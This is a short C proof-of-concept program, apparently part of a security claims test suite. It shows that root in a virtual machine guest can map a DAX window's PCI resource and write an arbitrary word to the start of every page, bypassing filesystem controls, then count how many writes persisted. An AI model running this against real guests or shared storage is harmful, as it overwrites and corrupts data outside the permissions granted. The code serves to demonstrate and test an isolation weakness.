/*
 * window_attack - what root in a guest can do to a DAX window, past every filesystem: stores into
 * all of it through the PCI resource of the device.
 *
 *     window_attack RESOURCE WORD      WORD (8 characters) to the start of each 4 KiB page
 *
 * Prints how many pages took it, for what is not mapped into the window forgets what is stored
 * there.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/stat.h>

#include "claims.h"

enum { kPage = 4096 };

int main(int argc, char **argv) {
    uint64_t word;
    if (argc != 3 || strlen(argv[2]) != sizeof word) {
        fprintf(stderr, "usage: window_attack RESOURCE WORD\n");
        return 2;
    }
    memcpy(&word, argv[2], sizeof word);
    const int fd = need(open(argv[1], O_RDWR | O_SYNC), argv[1]);
    struct stat is;
    need(fstat(fd, &is), argv[1]);
    volatile char *const window =
        mmap(NULL, (size_t)is.st_size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (window == MAP_FAILED) need(-1, "mmap");
    long took = 0;
    for (off_t at = 0; at < is.st_size; at += kPage) {
        volatile uint64_t *const page = (volatile uint64_t *)(window + at);
        *page = word;
        took += *page == word;
    }
    printf("%ld\n", took);
    return 0;
}
